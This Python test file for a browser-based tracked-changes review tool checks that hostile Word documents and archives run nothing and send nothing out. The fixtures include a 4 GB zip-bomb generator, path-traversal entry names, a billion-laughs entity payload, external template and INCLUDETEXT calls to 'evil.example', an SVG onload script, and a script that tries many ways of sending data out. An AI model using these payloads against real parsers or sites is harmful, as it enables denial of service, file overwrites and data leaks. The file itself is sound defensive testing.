"""Documents, archives, journals and names that try to run something or to send something: nothing runs, and nothing leaves."""
import http.server
import os
import struct
import subprocess
import threading
import time
import zlib

import desk_dangers
from desk_faults import TYPES, archive
from desk_seen import FLATOPC, Desk, example
from page_hostile import EVIL, hostile_package, quoted
from page_seen import in_package, reading, same, told

WHO = 'w:id="1" w:author="%s" w:date="2026-11-03T14:30:00Z"'
RAN = "return [window, ...Array.from(document.querySelectorAll('iframe'), (it) => it.contentWindow)].map((it) => it.ran ?? null)"
STRANGE = "return document.querySelectorAll('main :is(img, svg, script, link, base, embed, object, a[href])').length"


def went_through(it, name):
    """Goes through all steps, and tells whether anything ran, was asked for or came in."""
    for step in ["others", "standing", "written", "save", "decide"]:
        it.step(step)
        if step == "save":
            it.press("#show-remains")
    for event in ["mouseover", "focus", "click"]:
        it.in_page("page.document.querySelectorAll('main *').forEach((it) => it.dispatchEvent(new page.Event(words[0])))", event)
        it.run("document.querySelectorAll(':is(#others, #standing, #remains) :is(td, th, bdi, p, li, caption)').forEach((it) => it.dispatchEvent(new Event(arguments[0])))", event)
    is_quiet = it.run(RAN) == [None, None, None] and it.requests() == [] and it.run(STRANGE) == 0
    told("nothing runs and nothing leaves: " + ascii(name)[:60], is_quiet, str([it.run(RAN), it.requests(), it.run(STRANGE)]))


def pages_document(driven):
    """The hostile document of the page's tests, with hostile reviewers, as a package and as a .docx."""
    whole = hostile_package()
    package = reading.Package(whole)
    entries = [(evil, 1, number, "accept") for number, evil in enumerate(EVIL, 1)]
    journal = reading.journal(package, entries).encode()
    it = Desk(driven)
    said = it.drop(("hostile.xml", whole.encode()), ("hostile.journal", journal))
    told("the hostile document opens", "was added" in said, said)
    went_through(it, "the page's hostile document")
    it.step("standing")
    names = it.run("return [...document.querySelectorAll('#tables tr.reviewer th')].map((it) => it.textContent)")
    same("hostile reviewers are texts", sorted(names), sorted(EVIL))
    same("no complaint of the browser", driven.complaints(), [])


def names_and_texts(driven):
    """Each hostile text as the name of the file, its author, its words, its journal and its reviewer."""
    for evil in EVIL:
        it = Desk(driven)
        body = "<w:p><w:ins %s><w:r><w:t>%s</w:t></w:r></w:ins></w:p><w:p/>" % (WHO % quoted(evil), quoted(evil))
        whole = in_package(body)
        journal = reading.journal(reading.Package(whole), [(evil, 1, 1, "accept")]).encode()
        it.drop((evil + ".xml", whole.encode()), (evil + ".journal", journal))
        same("the name is a text: " + ascii(evil)[:40], it.text("#name"), evil + ".xml")
        it.step("others")
        it.run("document.getElementById('locks').open = true")
        it.after()
        it.press("#lock-form button")
        went_through(it, evil)


def dangerous_documents(driven):
    """What leads a word processor to run, fetch or show something, one document after the other."""
    it = Desk(driven)
    change = "<w:ins %s><w:r><w:t>new</w:t></w:r></w:ins>" % (WHO % "Ann Gray")
    for name, whole in desk_dangers.documents(change).items():
        said = it.drop((name + ".xml", whole.encode()))
        told("a document with %s opens" % name, "1 change to decide" in said, said)
        it.decide(1, "reject")
        it.step("written")
        shown = it.text("#written-told")
        is_quiet = it.run(RAN) == [None, None, None] and it.requests() == [] and it.run(STRANGE) == 0
        told("a document with %s: nothing runs, leaves or is shown in its place" % name, is_quiet and "no change is tracked" in shown, str([it.run(RAN), it.requests(), shown]))
        it.step("decide")


def zeros(says):
    """A .docx with 4 GB of zeros in it, whose directory has another size for them."""
    count, name, block = 4000, b"word/document.xml", bytes(10**6)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    once = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    packed = once * count + zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    checksum = 0
    for _ in range(count):
        checksum = zlib.crc32(block, checksum)
    sizes = struct.pack("<IIIHH", checksum, len(packed), says, len(name), 0)
    head = struct.pack("<IHHHHH", 0x04034B50, 20, 0, 8, 0, 33) + sizes + name
    entry = struct.pack("<IHHHHHH", 0x02014B50, 20, 20, 0, 8, 0, 33) + sizes + struct.pack("<HHHII", 0, 0, 0, 0, 0) + name
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(entry), len(head) + len(packed), 0)
    return head + packed + entry + end


def archives():
    """Archives that climb, lie or swell, by name. Each is refused or opened as flatopc does."""
    docx = [("[Content_Types].xml", TYPES), ("word/document.xml", "<w:document xmlns:w='w'/>")]
    big = struct.pack("<I", 0xFFFFFFF0)
    lying = archive(*docx)
    wide = archive(*docx, *[("word/p%d.xml" % at, "") for at in range(65536 - 2)])
    laughs = '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><a>&b;</a>'
    found = {
        "names that climb": archive(*docx, ("../../../evil.xml", "<a/>"), ("/etc/evil.xml", "<a/>"), ("C:\\evil.xml", "<a/>")),
        "a name of 60,000 letters": archive(*docx, ("n" * 60000 + ".xml", "<a/>")),
        "names that are markup": archive(*docx, *[("word/%s.xml" % evil.replace("\x00", ""), "<a/>") for evil in EVIL]),
        "twin names": archive(*docx, ("word/DOCUMENT.xml", "<a/>")),
        "65,536 entries": wide,
        "wrong sizes": lying.replace(struct.pack("<I", len(docx[1][1])), struct.pack("<I", 7)),
        "4 GB of zeros": zeros(4 * 10**9),
        "4 GB of zeros that it calls 1,000": zeros(1000),
        "4 GB of zeros that aren't there": lying.replace(struct.pack("<I", len(docx[1][1])), big),
        "entities that swell": archive(docx[0], ("word/document.xml", laughs)),
        "content types that swell": archive(("[Content_Types].xml", laughs)),
        "an archive in an archive": archive(*docx, ("word/more.docx", archive(*docx))),
        "nothing in it": archive(),
        "bytes before and after": b"MZ" + bytes(400) + archive(*docx) + b"PK\x05\x06",
        "an outside relation": archive(*docx, ("word/_rels/document.xml.rels", '<Relationships xmlns="x"><Relationship Id="a" Type="attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>')),
        "macros": archive(*docx, ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(100))),
        "a field that asks for a file": archive(docx[0], ("word/document.xml", "<w:document xmlns:w='w'><w:instrText>INCLUDETEXT http://evil.example</w:instrText></w:document>")),
        "a picture from outside": archive(*docx, ("word/media/a.svg", "<svg xmlns='http://www.w3.org/2000/svg' onload='window.ran=1'/>")),
    }
    return found


def of_archives(driven):
    it = Desk(driven)
    it.drop(("contract.xml", example("contract.xml")))
    for name, content in archives().items():
        file = os.path.join(driven.folder, "hostile.docx")
        with open(file, "wb") as out:
            out.write(content)
        unpacks = subprocess.run([FLATOPC, "unpack", "-f", file, file + ".xml"], capture_output=True, check=False).returncode == 0
        before = it.text("#name")
        said = it.drop((name + ".docx", content))
        opened = it.text("#name") == name + ".docx"
        told("an archive with %s is told of" % name, opened or it.is_fault() and len(said) > 20, said)
        told("an archive with %s: only what flatopc takes is taken" % name, unpacks or not opened, said)
        told("an archive with %s: else the document stays" % name, opened or it.text("#name") == before, it.text("#name"))
        same("an archive with %s runs nothing" % name, [it.run(RAN)[0], it.requests()], [None, []])


# Ways in which a page sends something to the address that is the first argument.
SENDS = """
const [place] = arguments, made = (what, properties) => document.body.append(Object.assign(document.createElement(what), properties));
for (const send of [
  () => fetch(place + "fetch", { mode: "no-cors" }),
  () => [new XMLHttpRequest()].forEach((it) => (it.open("GET", place + "request"), it.send())),
  () => (new Image().src = place + "image"),
  () => new EventSource(place + "events"),
  () => new WebSocket(place.replace("http", "ws") + "socket"),
  () => navigator.sendBeacon(place + "beacon", "words"),
  () => made("link", { rel: "stylesheet", href: place + "style" }),
  () => made("link", { rel: "prefetch", href: place + "later" }),
  () => made("iframe", { src: place + "frame" }),
  () => made("video", { src: place + "video" }),
  () => made("p", { innerText: "x", style: "background: url(" + place + "ground)" }),
  () => made("object", { data: place + "object" }),
]) {
  try {
    Promise.resolve(send()).catch(() => {});
  } catch {}
}
"""


class Heard(http.server.BaseHTTPRequestHandler):
    """A server that only remembers what it is asked for."""

    paths = []

    def do_GET(self):
        self.paths.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_HEAD = do_OPTIONS = do_GET

    def log_message(self, *_):
        pass


def sends_nothing(driven):
    """A script in the desk that tries to send what it finds sends nothing, in the ways by which another page does."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Heard)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    place = "http://127.0.0.1:%d/" % server.server_port
    blank = os.path.join(driven.folder, "blank.html")
    with open(blank, "w", encoding="utf-8") as out:
        out.write("<!DOCTYPE html><body>")
    driven.open(blank)
    driven.run(SENDS, place)
    time.sleep(1)
    told("another page sends", len(set(Heard.paths)) > 5, str(sorted(set(Heard.paths))))
    it = Desk(driven)
    it.drop(("contract.xml", example("contract.xml")))
    time.sleep(0.5)
    Heard.paths.clear()
    it.run(SENDS, place)
    it.in_page(SENDS.replace("arguments", "words").replace("document", "page.document"), place)
    time.sleep(1)
    same("the desk sends nothing, whatever is tried in it", Heard.paths, [])
    server.shutdown()


def another_tab(driven):
    """Two tabs with two documents: what is decided in one is not in the other."""
    it = Desk(driven)
    it.drop(("contract.xml", example("contract.xml")))
    it.name("Eve Stone")
    it.decide(3, "accept")
    first = driven.tab()
    driven.new_tab()
    other = Desk(driven)
    other.drop(("plain.xml", example("plain.xml")))
    other.name("Eve Stone")
    same("another document in another tab has no decisions", other.decisions(), [])
    other.decide(1, "reject")
    driven.go_to(first)
    same("and the first tab keeps its own", [it.text("#name"), it.decisions()], ["contract.xml", ["3 accept"]])


CASES = [pages_document, names_and_texts, dangerous_documents, of_archives, another_tab, sends_nothing]
